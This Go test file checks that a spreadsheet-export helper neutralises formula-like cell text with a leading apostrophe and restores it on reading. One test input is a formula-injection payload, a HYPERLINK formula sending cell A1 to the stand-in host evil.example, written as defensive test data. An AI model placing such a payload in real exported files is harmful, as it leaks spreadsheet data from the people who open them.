package hin_test

import (
	"testing"

	"github.com/hin-graph/hin-graph/internal/hin"
)

// A text cell a spreadsheet would take for a formula gets an apostrophe,
// and reading it back gives the text as it was.
func TestCellTextNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Open report")`: `'=HYPERLINK("http://evil.example/?leak="&A1,"Open report")`,
		"+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "'=x": "''=x", "''+x": "'''+x",
		"HI-EM": "HI-EM", "": "", "'": "'", "'plain": "'plain", "East Midlands = 1": "East Midlands = 1", "\n=x": "\n=x",
	} {
		got := hin.CellText(in)
		if got != want {
			t.Errorf("CellText(%q) = %q, want %q", in, got, want)
		}
		if back := hin.CellTextValue(got); back != in {
			t.Errorf("CellTextValue(%q) = %q, want %q", got, back, in)
		}
	}
}
